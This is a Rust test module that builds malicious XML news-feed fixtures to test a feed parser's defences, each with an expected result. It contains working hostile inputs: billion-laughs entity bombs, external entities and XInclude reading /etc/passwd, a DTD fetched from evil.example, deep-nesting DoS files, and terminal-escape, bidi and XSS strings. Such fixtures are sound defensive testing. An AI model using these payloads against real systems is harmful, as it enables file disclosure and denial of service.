//! XML of agencies and feeds: bombs, depth, references that lead out, tags without end.

use std::fmt::Write as _;

use super::Told::{Failed, Part, Read, Skipped};
use super::{PROSE, Row, file, many};

/// Declares entities of which each holds ten of the one before, and one that is a file.
fn bomb(root: &str) -> String {
    let mut declared = format!(
        "<?xml version=\"1.0\"?><!DOCTYPE {root} [<!ENTITY x SYSTEM \"file:///etc/passwd\"><!ENTITY % p SYSTEM \"https://evil.example/x.dtd\"> %p;<!ENTITY e0 \"lol\">"
    );
    for level in 1..10 {
        write!(declared, "<!ENTITY e{level} \"{}\">", format!("&e{};", level - 1).repeat(10)).unwrap();
    }
    declared + "]>"
}

fn rss(inside: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?><rss version=\"2.0\" xmlns:content=\"http://purl.org/rss/1.0/modules/content/\"><channel><title>The Post</title>{inside}{}</channel></rss>",
        item("Sun in Rome")
    )
}

fn item(headline: &str) -> String {
    format!("<item><title>{headline}</title><content:encoded>{}</content:encoded></item>", PROSE.repeat(4))
}

fn nitf(head: &str, body: &str) -> String {
    format!(
        "<nitf><head><title>Rain</title></head><body><body.head><hedline><hl1>Rain in Oslo</hl1></hedline>{head}</body.head><body.content>{body}<p>{PROSE}</p></body.content></body></nitf>"
    )
}

pub fn rows() -> Vec<Row> {
    [bombs(), deep(), broken(), letters()].into_iter().flatten().collect()
}

fn bombs() -> Vec<Row> {
    vec![
        file("bomb-rss.xml", Read(2), || bomb("rss") + &rss(&item("&e9;&x; in Oslo")).replacen("<?xml version=\"1.0\"?>", "", 1)),
        file("bomb-nitf.xml", Read(1), || bomb("nitf") + &nitf("&e9;", "<p>&e9;&x;</p>")),
        file("bomb-atom.xml", Read(1), || {
            bomb("feed")
                + &format!(
                    "<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><title>Rain &e9;&x;</title><content>&e9; {}</content></entry></feed>",
                    PROSE.repeat(4)
                )
        }),
        file("bomb-newsml.xml", Read(1), || {
            bomb("newsItem")
                + &format!(
                    "<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\"><contentMeta><headline>Rain &e9;&x;</headline></contentMeta><contentSet><inlineXML><html><body><p>&e9; {}</p></body></html></inlineXML></contentSet></newsItem>",
                    PROSE.repeat(4)
                )
        }),
        file("bomb-quadratic.xml", Skipped("a format that is not read"), || {
            format!("<!DOCTYPE rss [<!ENTITY a \"{}\">]>", "x".repeat(50_000)) + &rss(&item(&"&a;".repeat(20_000)))
        }),
        file("bomb-of-no-format.xml", Skipped("XML of no format that is read"), || bomb("x") + "<x>&e9;</x>"),
        file("include.xml", Read(2), || {
            rss(&format!(
                "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"/etc/passwd\"/>{}",
                item("Rain in Oslo")
            ))
        }),
    ]
}

fn deep() -> Vec<Row> {
    vec![
        file("deep-nitf.xml", Failed("deep"), || format!("<nitf>{}", "<block>".repeat(200_000))),
        file("deep-nitf-closed.xml", Failed("deep"), || {
            nitf("", &format!("{}{}", "<block>".repeat(5_000), "</block>".repeat(5_000)))
        }),
        file("deep-rss.xml", Part(1, "deep"), || rss(&item(&format!("{}{}", "<b>".repeat(50_000), "</b>".repeat(50_000))))),
        file("deep-in-cdata.xml", Read(2), || {
            rss(&item("Rain in Oslo")
                .replace("<content:encoded>", &format!("<content:encoded><![CDATA[{}]]>", "<div>".repeat(100_000))))
        }),
        file("2000-items.xml", Read(2_001), || {
            rss(&many("", 2_000, |n| {
                format!("<item><title>Rain {n}</title><content:encoded>It rained {n} times in Oslo.</content:encoded></item>")
            }))
        }),
        file("items-in-items.xml", Part(1, "never ended: another begins within it"), || {
            rss(&"<item><title>Rain</title>".repeat(2_000))
        }),
        file("elements.xml", Failed("more than 200000 elements and texts"), || nitf("", &"<p/>".repeat(400_000))),
        file("attributes.xml", Read(1), || {
            nitf(&format!("<byline {}>Jane Doe</byline>", many("", 50_000, |n| format!("a{n}='b' "))), "")
        }),
        file("attributes-alike.xml", Read(1), || nitf(&format!("<byline {}>Jane Doe</byline>", "a='b' ".repeat(50_000)), "")),
        file("name-of-1-mb.xml", Read(2), || rss(&(format!("<{0}></{0}>", "x".repeat(1_000_000)) + &item("Rain in Oslo")))),
        file("spaces-of-names.xml", Read(2), || {
            rss(&(many("<x ", 20_000, |n| format!("xmlns:a{n}='u:{n}' ")) + "/>" + &item("Rain in Oslo")))
        }),
        file("item-of-10-mb.xml", Part(1, "longer than any article"), || rss(&item(&"Rain in Oslo. ".repeat(750_000)))),
    ]
}

fn broken() -> Vec<Row> {
    vec![
        file("cdata-never-closed.xml", Part(1, "truncated: the file ends within it"), || {
            rss("").replace("</channel></rss>", "<item><title>Rain</title><content:encoded><![CDATA[It rained")
        }),
        file("comment-never-closed.xml", Read(1), || {
            rss("").replace("</channel></rss>", "<!-- It rained") + &"x".repeat(100_000)
        }),
        file("comments-open.xml", Failed("comment not closed"), || nitf("", &"<!--".repeat(100_000))),
        file("instructions.xml", Read(2), || rss(&("<?rain oslo?>".repeat(100_000) + &item("Rain in Oslo")))),
        file("tags-wrongly-closed.xml", Read(1), || nitf("</hl2>", "<p><em>It rained</p></em></b>")),
        file("root-alone.xml", Skipped("a feed without entries"), || "<?xml version=\"1.0\"?><rss version=\"2.0\">"),
        file("two-roots.xml", Read(1), || nitf("", "") + &nitf("", "")),
        file("bare-ampersands.xml", Read(2), || rss(&item("Rain & sun &nosuch; &; &#; &#x; in Oslo"))),
        file("encoding-wrong.xml", Read(2), || rss(&item("Caf\u{e9} in Oslo")).replace("?>", " encoding=\"utf-16\"?>")),
        file("encoding-unknown.xml", Read(2), || rss(&item("Caf\u{e9} in Oslo")).replace("?>", " encoding=\"klingon-1\"?>")),
        file("encoding-utf8-of-latin1.xml", Read(2), || {
            let text = rss(&item("Caf\u{e9} in Oslo")).replace("?>", " encoding=\"utf-8\"?>");
            text.chars().map(|c| u8::try_from(u32::from(c)).unwrap()).collect::<Vec<u8>>()
        }),
        file("nul.xml", Part(1, "binary data within an article"), || rss(&item("Rain\0 in Oslo"))),
    ]
}

fn letters() -> Vec<Row> {
    let titled = |name: &str, title: &'static str| file(name, Read(2), move || rss(&item(title)));
    vec![
        titled("escapes.xml", "\u{1b}[2JRain &#27;[31m &#x9b;2J &#x1b;]0;x&#7; in Oslo"),
        titled("overrides.xml", "Rain &#x202e;olsO ni&#x202c; \u{2066}sun"),
        titled("no-characters.xml", "Rain &#0; &#xD800; &#x110000; &#99999999999; &#-1; in Oslo"),
        titled("formula.xml", "=1+1 &#9;@Oslo"),
        titled("markup.xml", "&lt;script&gt;alert(1)&lt;/script&gt; <![CDATA[<img src=x onerror=alert(1)>]]> Rain"),
        file("escapes-in-nitf.xml", Read(1), || {
            nitf(
                "<byline>By Jane &#27;[31mDoe</byline><dateline><location>&#x202e;Oslo</location></dateline>",
                "<p><person>John &#27;[5mSmith</person></p>",
            )
        }),
    ]
}
